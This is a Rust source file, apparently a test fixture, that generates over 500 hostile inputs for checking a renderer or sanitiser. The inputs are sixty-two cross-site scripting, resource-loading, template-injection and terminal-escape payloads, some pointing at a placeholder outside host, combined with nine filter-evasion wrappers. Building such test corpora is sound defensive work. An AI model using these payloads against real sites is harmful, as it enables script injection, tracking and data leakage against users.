//! Texts that try to be more than text.

/// What they try: to run a script that sets `window.hit`, to send a request to `OUT`, to lead the window away, to turn text
/// round, to break the layout.
const TRICKS: [&str; 62] = [
    "<script>window.hit=1</script>",
    "<script src=OUT/x.js></script>",
    "<script type=module>window.hit=1</script>",
    "<script>import('OUT/x.js')</script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=OUT/pixel.png>",
    "<img srcset='OUT/pixel.png 1x'>",
    "<picture><source srcset=OUT/p.png><img></picture>",
    "<input type=image src=OUT/p.png>",
    "<video poster=OUT/p.png></video>",
    "<video><source onerror=window.hit=1 src=x></video>",
    "<audio src=OUT/a.ogg autoplay></audio>",
    "<track src=OUT/t.vtt default>",
    "<svg onload=window.hit=1></svg>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s /></svg>",
    "<svg><image href=OUT/p.png /></svg>",
    "<svg><use href=OUT/s.svg#x /></svg>",
    "<svg><foreignObject><img src=x onerror=window.hit=1></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>",
    "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
    "<iframe src=\"javascript:parent.hit=1\"></iframe>",
    "<iframe src=OUT></iframe>",
    "<object data=OUT></object>",
    "<object data=\"javascript:parent.hit=1\"></object>",
    "<embed src=OUT>",
    "<applet code=OUT></applet>",
    "<link rel=stylesheet href=OUT/x.css>",
    "<link rel=preload as=image href=OUT/p.png>",
    "<link rel=modulepreload href=OUT/x.js>",
    "<link rel=manifest href=OUT/m.json>",
    "<style>@import 'OUT/x.css';</style>",
    "<style>*{background:url(OUT/p.png)}</style>",
    "<style>@font-face{font-family:x;src:url(OUT/f.woff2)} *{font-family:x}</style>",
    "<b style=\"background:url(OUT/p.png);position:fixed;inset:0\">over everything</b>",
    "<base href=OUT/>",
    "<form action=OUT><input autofocus onfocus=window.hit=1></form>",
    "<form><button formaction=\"javascript:window.hit=1\" autofocus>x</button></form>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<select autofocus onfocus=window.hit=1></select>",
    "<textarea autofocus onfocus=window.hit=1></textarea>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<body onload=window.hit=1>",
    "<body background=OUT/p.png>",
    "<table background=OUT/p.png><td>x</table>",
    "<div onpointerenter=window.hit=1 style=\"position:fixed;inset:0\">x</div>",
    "<div onanimationstart=window.hit=1 style=\"animation:x 1s\">x</div>",
    "<a href=\"javascript:window.hit=1\" autofocus>click</a>",
    "<a ping=OUT href=\"#\">click</a>",
    "<template shadowrootmode=open><img src=x onerror=window.hit=1></template>",
    "<xmp><img src=x onerror=window.hit=1></xmp><img src=x onerror=window.hit=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\"></noscript>",
    "[click](javascript:window.hit=1) ![x](OUT/pixel.png)",
    "![x][y]\n\n[y]: OUT/pixel.png\n\n<img src=OUT/pixel.png>",
    "javascript:window.hit=1",
    "data:text/html,<script>opener.hit=1</script>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1} #{window.hit=1} <%= window.hit=1 %>",
    "{@html '<img src=x onerror=window.hit=1>'}",
    "'-window.hit=1-' \"+window.hit=1+\" `;window.hit=1;`",
    "\u{1b}]8;;OUT\u{7}link\u{1b}]8;;\u{7}\u{1b}[31mred\u{1b}[2J",
    "__proto__ constructor prototype hasOwnProperty",
];

/// How a trick may be wrapped, so that what looks for the plain one does not see it.
const DISGUISES: [fn(&str) -> String; 9] = [
    ToOwned::to_owned,
    |trick| format!("\"><b>{trick}"),
    |trick| format!("' autofocus x='>{trick}"),
    |trick| format!("</title></textarea></style></script>-->]]>{trick}"),
    |trick| {
        trick
            .chars()
            .enumerate()
            .map(|(place, letter)| if place % 2 == 0 { letter.to_ascii_uppercase() } else { letter })
            .collect::<String>()
            .replace("WINDOW", "window")
    },
    |trick| trick.replace('<', "&lt;").replace('>', "&gt;"),
    |trick| {
        format!("\u{202e}{}\u{202c}\u{2066}{trick}\u{200b}\u{feff}", trick.chars().rev().collect::<String>())
    },
    |trick| trick.replace(' ', "\u{c}/\t"),
    |trick| format!("{}{trick}", "Zalgo\u{300}\u{301}\u{302}\u{303}".repeat(150)),
];

/// More than 500 of them. `outside` is where a request must never arrive.
pub fn hostile_texts(outside: &str) -> Vec<String> {
    let all = DISGUISES
        .iter()
        .flat_map(|disguise| TRICKS.iter().map(move |trick| disguise(&trick.replace("OUT", outside))));
    let mut all: Vec<String> = all.collect();
    all.dedup();
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_more_than_five_hundred_and_none_twice() {
        let all = hostile_texts("http://127.0.0.1:9");
        let mut unique = all.clone();
        unique.sort();
        unique.dedup();
        assert!(unique.len() > 500, "{}", unique.len());
        assert!(all.iter().any(|text| text.contains("http://127.0.0.1:9")));
    }
}
